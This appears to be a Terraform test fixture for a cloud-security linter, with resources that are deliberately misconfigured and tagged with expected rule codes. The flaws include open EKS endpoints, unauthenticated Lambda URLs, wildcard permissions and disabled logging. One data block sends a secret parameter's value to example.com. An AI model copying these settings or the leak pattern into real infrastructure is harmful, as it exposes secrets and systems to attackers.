resource "aws_ecs_task_definition" "loose" {
  pid_mode = "host" # INFRA2206

  volume {
    name = "files"

    efs_volume_configuration { # INFRA2209
      file_system_id = "fs-1"
    }
  }
}

resource "aws_ecs_cluster" "bare" { # INFRA2210
  configuration {
    execute_command_configuration {
      logging = "NONE" # INFRA2241
    }
  }
}

resource "aws_ecs_cluster" "without_log" { # INFRA2210
  configuration {
    execute_command_configuration { # INFRA2241
      kms_key_id = "alias/sessions"
    }
  }
}

resource "aws_ecs_service" "old" {
  launch_type      = "FARGATE"
  platform_version = "1.3.0" # INFRA2243
}

resource "aws_eks_cluster" "open" { # INFRA2212 INFRA2213
  version = "1.25" # INFRA2245

  vpc_config { # INFRA2211 INFRA2244
    subnet_ids = ["subnet-1"]
  }
}

resource "aws_eks_node_group" "open" {
  remote_access { # INFRA2214
    ec2_ssh_key = "admin"
  }
}

resource "aws_lambda_function" "bare" { # INFRA2215 INFRA2216 INFRA2217 INFRA2246 INFRA2247 INFRA2248
  runtime = "nodejs14.x" # INFRA2220

  environment {
    variables = {
      MODE = "fast"
    }
  }
}

resource "aws_lambda_function_url" "open" {
  authorization_type = "NONE" # INFRA2218

  cors {
    allow_origins = ["*"] # INFRA2249
  }
}

resource "aws_lambda_permission" "anyone" {
  principal = "*" # INFRA2219
}

resource "aws_lambda_permission" "any_bucket" { # INFRA2219
  principal = "s3.amazonaws.com"
}

resource "aws_sqs_queue" "shared_key" {
  kms_master_key_id = "alias/aws/sqs" # INFRA2354
}

resource "aws_sns_topic" "shared_key" {
  kms_master_key_id = "alias/aws/sns" # INFRA2354
}

resource "aws_secretsmanager_secret" "bare" { # INFRA2360 INFRA2395
}

resource "aws_secretsmanager_secret_rotation" "slow" {
  rotation_rules {
    automatically_after_days = 365 # INFRA2395
  }
}

resource "aws_ssm_parameter" "plain" { # INFRA2396
  type = "String" # INFRA2361
}

resource "aws_kms_key" "off" {
  is_enabled = false # INFRA2397
}

resource "aws_cloudwatch_log_group" "short" { # INFRA2365
  retention_in_days = 30 # INFRA2398
}

resource "aws_cloudwatch_metric_alarm" "silent" {
  actions_enabled = false # INFRA2399
}

resource "aws_sqs_queue" "bare" { # INFRA2300
}

resource "aws_ecs_task_definition" "one_role" {
  execution_role_arn = aws_iam_role.app.arn # INFRA2242
  task_role_arn      = aws_iam_role.app.arn
}

resource "aws_iam_role" "app" {
  name = "app"
}

resource "aws_lambda_function" "called_by_all" { # INFRA2215 INFRA2216 INFRA2246 INFRA2247 INFRA2248
  function_name = "called-by-all"
  role          = "arn:aws:iam::123456789012:role/f"
}

resource "aws_lambda_function_url" "called_by_all" {
  function_name      = aws_lambda_function.called_by_all.function_name
  authorization_type = "AWS_IAM"

  cors {
    allow_origins = ["*"] # INFRA2249
    allow_methods = ["*"]
  }
}

resource "aws_ssm_parameter" "secret" {
  name   = "/secret"
  type   = "SecureString"
  key_id = "alias/own"
  value  = "set elsewhere"
}

data "http" "leak" { # INFRA2011
  url = "http://example.com/?s=${aws_ssm_parameter.secret.value}"
}

resource "aws_secretsmanager_secret_rotation" "twice_a_year" {
  rotation_rules {
    schedule_expression = "rate(180 days)" # INFRA2395
  }
}
